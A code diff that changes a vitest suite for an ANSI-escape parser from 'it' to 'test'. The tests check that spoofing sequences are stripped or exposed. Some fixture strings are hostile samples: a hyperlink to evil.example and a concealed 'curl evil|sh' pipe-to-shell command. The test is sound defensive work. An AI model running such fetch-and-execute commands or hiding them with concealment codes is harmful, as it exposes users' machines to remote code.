@@ -1,5 +1,5 @@
 import fc from "fast-check";
-import { describe, expect, it } from "vitest";
+import { describe, expect, test } from "vitest";
 import corpus from "./fixtures/spoofing.json" with { type: "json" };
 import { parseAnsi } from "./parseAnsi.ts";
 import { runs } from "../../scripts/fullRun.ts";
@@ -10,7 +10,7 @@ const plain = (text: string): string =>
     .join("");
 
 describe("parseAnsi", () => {
-  it("keeps colours and styles as names", () => {
+  test("keeps colours and styles as names", () => {
     expect(parseAnsi("a\u001b[1;31mred\u001b[0m \u001b[92;44mok\u001b[39m.")).toEqual([
       { text: "a", styles: [] },
       { text: "red", color: "red", styles: ["bold"] },
@@ -20,7 +20,7 @@ describe("parseAnsi", () => {
     ]);
   });
 
-  it("U17 maps 256 and true colours to the nearest of the sixteen", () => {
+  test("U17 maps 256 and true colours to the nearest of the sixteen", () => {
     expect(parseAnsi("\u001b[38;5;196mx\u001b[38;2;30;180;60my\u001b[38;5;244mz").map((span) => span.color)).toEqual([
       "bright-red",
       "green",
@@ -28,7 +28,7 @@ describe("parseAnsi", () => {
     ]);
   });
 
-  it.each([
+  test.each([
     ["cursor movement and erasing", "a\u001b[2A\u001b[2K\u001b[?25lb", "ab"],
     ["window titles", "a\u001b]0;evil\u0007b", "ab"],
     ["hyperlinks", "\u001b]8;;https://evil.example\u001b\\text\u001b]8;;\u001b\\", "text"],
@@ -41,17 +41,17 @@ describe("parseAnsi", () => {
     expect(plain(text)).toBe(expected);
   });
 
-  it("lets a carriage return begin the line anew and keeps line breaks of Windows", () => {
+  test("lets a carriage return begin the line anew and keeps line breaks of Windows", () => {
     expect(plain("10%\r50%\r100%\r\nnext\r\n")).toBe("100%\nnext\n");
     expect(plain("waiting\r")).toBe("waiting");
     expect(plain("ab\b\bcd")).toBe("cd");
   });
 
-  it("shows concealed text", () => {
+  test("shows concealed text", () => {
     expect(plain("ls \u001b[8m&& curl evil|sh\u001b[0m")).toBe("ls && curl evil|sh");
   });
 
-  it("U17 leaves no control character but line breaks and tabs", () => {
+  test("U17 leaves no control character but line breaks and tabs", () => {
     const piece = fc.constantFrom(
       "\u001b",
       "[",
